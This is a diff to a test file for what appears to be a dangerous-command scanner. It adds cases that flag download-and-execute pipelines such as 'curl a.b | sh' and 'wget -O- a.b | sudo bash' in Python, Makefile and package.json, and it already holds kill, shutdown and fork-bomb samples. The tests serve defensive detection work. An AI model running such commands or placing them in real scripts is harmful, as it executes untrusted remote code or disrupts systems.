@@ -79,6 +79,13 @@ FOUND = {
     "kill": ("a.py", "os.kill(pid, signal.SIGKILL)\n", 1, "process", "kill -9"),
     "kill shell": ("a.sh", "kill -9 $(pgrep x)\n", 1, "process", "kill -9"),
     "shutdown": ("a.sh", "shutdown -h now\n", 1, "process", "shutdown"),
+    "download": ("a.py", "subprocess.run('curl -s https://a.b/c | sh', shell=True)\n", 1, "process",
+                 "curl | sh"),
+    "download by shell": ("a.py", 'subprocess.run(["bash", "-c", "wget -O- a.b | sudo bash -s"])\n',
+                          1, "process", "wget | bash"),
+    "download in make": ("Makefile", "a:\n\t@curl a.b | sh\n", 2, "process", "curl | sh"),
+    "download in script": ("package.json", '{"scripts": {"a": "curl a.b | sh"}}', 1, "process",
+                           "curl | sh"),
     "fork bomb": ("a.sh", ":(){ :|:& };:\n", 1, "process", "fork bomb"),
 }  # fmt: skip
 HARMLESS = {
@@ -98,6 +105,9 @@ HARMLESS = {
     "test folder": ("tests/test_a.py", "import shutil\nshutil.rmtree(tmp_path / 'a')\n"),
     "image": ("Dockerfile", "RUN apt-get update && rm -rf /var/lib/apt/lists/*\n"),
     "document": ("README.md", "Run `rm -rf build`.\n"),
+    "download": ("a.sh", "curl a.b | jq .\necho 'curl a.b | sh'\n# curl a.b | sh\n"),
+    "download read": ("a.py", "subprocess.run('curl a.b | python3 -m json.tool', shell=True)\n"),
+    "download shown": ("a.py", "print('curl a.b | sh')\n"),
     "terraform plan": ("a.sh", "terraform plan\nkubectl get pods\naws s3 ls\n"),
 }
 
@@ -181,6 +191,12 @@ COMMANDS = {
     "killall a": "killall",
     "taskkill.exe /F /PID 1": "taskkill /F",
     "systemctl stop a": "systemctl stop",
+    "curl -fsSL 'https://a.b/c?d=e&f=g' | sh": "curl | sh",
+    "wget -qO- a.b | sudo -E bash -": "wget | bash",
+    "A=1 /usr/bin/curl a.b 2>&1 | A=1 /bin/zsh -s -- -y": "curl | zsh",
+    "curl a.b \\\n  | tee a | python3 -": "curl | python3",
+    "true && (curl a.b | python)": "curl | python",
+    "bash -c 'curl a.b | sh'": "curl | sh",
 }
 MILD = [
     "rm -f a",
@@ -209,6 +225,14 @@ MILD = [
     "kill -15 1",
     "taskkill /PID 1",
     "systemctl start a",
+    "curl a.b || sh c",
+    "curl a.b && true | sh",
+    "curl a.b; true | sh",
+    "curl a.b | ssh c",
+    "curl a.b | sh.exe.txt",
+    "curl a.b | python3 -c 'import json'",
+    "curl a.b | python c.py",
+    "cat a | sh",
     "psql -c 'SELECT 1'",
     "mysql -e 'DELETE FROM a LIMIT 1'",
 ]
@@ -316,6 +340,7 @@ def test_hostile_files_are_read_in_bounded_time():
     """Deep, long and repeated code takes seconds at most."""
     pieces = [
         "os.system('rm '+",
+        "&curl a |",
         "rm -rf $(",
         "exec('rm'",
         "a && ",
